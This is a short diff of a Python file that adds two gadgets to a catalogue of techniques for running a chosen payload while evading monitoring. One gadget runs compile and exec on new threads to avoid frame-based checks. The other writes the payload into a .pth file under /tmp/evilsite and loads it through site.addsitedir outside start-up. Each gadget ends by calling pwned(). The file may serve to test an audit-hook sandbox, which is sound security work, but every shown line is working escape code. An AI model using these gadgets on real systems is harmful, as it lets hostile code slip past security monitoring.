@@ -274,7 +274,24 @@ def timeit_gadget():
     import timeit
     timeit.timeit(DECODED, number=1)
     return pwned()
+def thread_compile():
+    import _thread
+    box = []
+    _thread.start_new_thread(lambda: None, ())
+    _thread.start_new_thread(compile, (DECODED, 'x', 'exec'))   # a frameless compile, of text we choose
+    _thread.start_new_thread(exec, (DECODED,))
+    time.sleep(0.5)
+    return pwned()
+def thread_pth():
+    import _thread, site
+    os.makedirs('/tmp/evilsite', exist_ok=True)
+    open('/tmp/evilsite/evil.pth', 'w').write(DECODED + chr(10))
+    _thread.start_new_thread(site.addsitedir, ('/tmp/evilsite',))   # .pth lines outside start-up
+    time.sleep(0.5)
+    return pwned()
 hook = {
+    'thread-compile': thread_compile,
+    'thread-pth': thread_pth,
     'gc-busy-flag': gc_busy,
     'closure-cells': closure_cells,
     'frame-walk': frame_walk,
